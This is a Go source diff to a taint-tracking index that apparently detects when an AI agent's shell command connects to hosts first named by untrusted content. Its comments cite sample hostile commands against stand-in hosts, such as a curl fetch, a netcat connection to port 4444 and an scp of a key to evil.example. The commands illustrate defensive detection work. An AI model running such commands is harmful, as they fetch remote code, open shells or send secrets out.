@@ -28,12 +28,10 @@ func remoteHost(t string) (string, bool) {
 
 // networkHost is remoteHost before the user's own machine is left out.
 func networkHost(t string) (string, bool) {
-	if strings.Count(t, ":") >= 2 && strings.ContainsFunc(t, unicode.IsDigit) {
-		// An IPv6 address: a URL's [2001:db8::7] loses its brackets to
-		// the tokenizer. No file's name parses as one.
-		if a, err := netip.ParseAddr(t); err == nil && a.Is6() {
-			return t, true
-		}
+	if ipv6(t) {
+		// A URL's [2001:db8::7] loses its brackets to the tokenizer. No
+		// file's name parses as one.
+		return t, true
 	}
 	if scheme, rest, ok := strings.Cut(t, "://"); ok {
 		if scheme == "" || scheme == "file" {
@@ -66,6 +64,15 @@ func networkHost(t string) (string, bool) {
 		}
 	}
 	return "", false
+}
+
+// ipv6 reports whether t is an IPv6 address.
+func ipv6(t string) bool {
+	if strings.Count(t, ":") < 2 || !strings.ContainsFunc(t, unicode.IsDigit) {
+		return false
+	}
+	a, err := netip.ParseAddr(t)
+	return err == nil && a.Is6()
 }
 
 // withoutPort is host without a :port after it, and without the dot that
@@ -136,47 +143,56 @@ func valueHosts(toks []tok) []string {
 }
 
 // placeTok is a place a content named: a token (host, the hash of the
-// host it names) or a host (host 0).
-type placeTok struct{ hash, host uint64 }
+// host it names) or a host (host 0); spare for a host written alone.
+type placeTok struct {
+	hash, host uint64
+	spare      bool
+}
 
 // appendPlace appends to places the hash h of token t when t names a place
 // on the network, and its host's (with and without a leading www.): a
-// value that keeps a page's host and changes the path reaches it too.
+// value that keeps a page's host and changes the path reaches it too. A
+// dotted word alone (get.evil.example, but install.sh alike) is a spare
+// place: a host only when a command gives it a program that connects to
+// it (HostNamed), kept while there is room.
 func appendPlace(places []placeTok, t string, h uint64) []placeTok {
 	host, ok := remoteHost(t)
 	if !ok {
+		if hostLike(t) && !loopback(t) {
+			places = append(places, placeTok{hash: h, spare: true})
+		}
 		return places
 	}
 	hh := hashOf(host)
-	places = append(places, placeTok{h, hh}, placeTok{hh, 0})
+	places = append(places, placeTok{hash: h, host: hh}, placeTok{hash: hh})
 	if bare, ok := strings.CutPrefix(host, "www."); ok {
-		places = append(places, placeTok{hashOf(bare), 0})
+		places = append(places, placeTok{hash: hashOf(bare)})
 	}
 	return places
 }
 
 // addPlaces keeps the places a content src (at slot id once given) named,
 // those not named before (AddUntrusted filters them): a URL or an address
-// whose host is a place too is spare (spareEntry), and spares give their
-// room to the others once it runs out, so a session's pages fill the
-// places by their hosts, not by their links; the places are full
-// (PlacesFull) only when what is not spare does not fit.
+// whose host is a place too is spare (spareEntry), as is a dotted word
+// alone, and spares give their room to the others once it runs out, so a
+// session's pages fill the places by their hosts, not by their links; the
+// places are full (PlacesFull) only when what is not spare does not fit.
 func (ix *Index) addPlaces(places []placeTok, source func() uint8) {
 	var hosts []uint64
 	for _, p := range places {
-		if p.host == 0 {
+		if p.host == 0 && !p.spare {
 			hosts = append(hosts, p.hash)
 		}
 	}
 	slices.Sort(hosts)
 	hostKept := func(hh uint64) bool {
 		_, named := slices.BinarySearch(hosts, hh)
-		return named || ix.isPlace(hh)
+		return named || ix.keptPlace(hh)
 	}
 	cand := make([]entry, 0, len(places))
 	for _, p := range places {
 		e := entry{hash: p.hash}
-		if p.host != 0 && hostKept(p.host) {
+		if p.spare || p.host != 0 && hostKept(p.host) {
 			e.src = spareEntry
 		}
 		cand = append(cand, e)
@@ -184,6 +200,13 @@ func (ix *Index) addPlaces(places []placeTok, source func() uint8) {
 	// Sorted by hash, one entry a hash, not spare if any is not.
 	slices.SortFunc(cand, func(a, b entry) int { return cmp.Or(cmp.Compare(a.hash, b.hash), cmp.Compare(a.src, b.src)) })
 	cand = slices.CompactFunc(cand, func(a, b entry) bool { return a.hash == b.hash })
+	for _, e := range cand {
+		// A spare place named again as a host (a word alone, then a
+		// link's host) is kept as the host.
+		if i, found := slices.BinarySearchFunc(ix.places, e.hash, func(p entry, h uint64) int { return cmp.Compare(p.hash, h) }); found && e.src&spareEntry == 0 {
+			ix.places[i].src &^= spareEntry
+		}
+	}
 	isNew := func(e entry) bool { return !ix.isPlace(e.hash) }
 	if len(ix.places)+countFunc(cand, isNew) > MaxPlaces {
 		spare := func(e entry) bool { return e.src&spareEntry != 0 }
@@ -256,4 +279,69 @@ func (ix *Index) placeIn(s string) (tok string, src int, ok bool) {
 		}
 	})
 	return tok, src, ok
+}
+
+// HostNamed traces a host a command gives a program that connects to it
+// (shellcmd.Hosts: curl get.evil.example, nc 203.0.113.9 4444, scp key
+// evil.example:keys), which Classify does not count a place by its token
+// alone: a dotted word reads as a file's name as well (install.sh), and
+// the program's reading tells them apart. It is one when content that set
+// a taint label named it first — as a word, or as the host of a link
+// (kept apart as a place once the index is full) — and neither the user
+// wrote or approved it nor the model's own call carried it first; with
+// its token, as the value's lineage cites it, and the slot of that
+// content (-1: none known, the places being full). Not this machine
+// (localhost, loopback addresses).
+func (ix *Index) HostNamed(host string) (tok string, src int, ok bool) {
+	n := strings.TrimSuffix(normal(host), ".")
+	h, found := uint64(0), false
+	each(n, func(t string, th uint64, k kind) {
+		if !found && k == matter && t == n {
+			h, found = th, true
+		}
+	})
+	if !found || ix.isTrusted(h) || ix.isOwn(h) || loopback(n) {
+		return "", 0, false
+	}
+	if !hostLike(n) && !ipv6(n) {
+		return "", 0, false
+	}
+	if s, seen := ix.untrustedSource(h); seen {
+		s, taints := sourceTaints(s)
+		return n, s, taints
+	}
+	if !ix.Full {
+		return "", 0, false
+	}
+	if i, isPlace := ix.place(h); isPlace {
+		return n, i, true
+	}
+	return n, -1, ix.PlacesFull
+}
+
+// Dialed is l, a value's lineage, with the hosts its command gives a
+// program that connects to them (shellcmd.Hosts) traced by HostNamed: one
+// a tainting content named first makes the value untrusted and remote, an
+// identifier, citing the host and that content.
+func (ix *Index) Dialed(l Lineage, hosts []string) Lineage {
+	for _, h := range hosts {
+		tok, src, ok := ix.HostNamed(h)
+		if !ok {
+			continue
+		}
+		if l.Origin != FromUntrusted {
+			l.Origin, l.Named = FromUntrusted, false
+		}
+		l.Remote = true
+		if l.Evidence.rank() < Identifier.rank() {
+			l.Evidence = Identifier
+		}
+		if tok = clipTo(tok, maxEvidenceToken); !slices.Contains(l.Tokens, tok) && len(l.Tokens) < maxEvidence {
+			l.Tokens = append(l.Tokens, tok)
+		}
+		if src >= 0 && !slices.Contains(l.Sources, src) && len(l.Sources) < maxEvidence {
+			l.Sources = append(l.Sources, src)
+		}
+	}
+	return l
 }
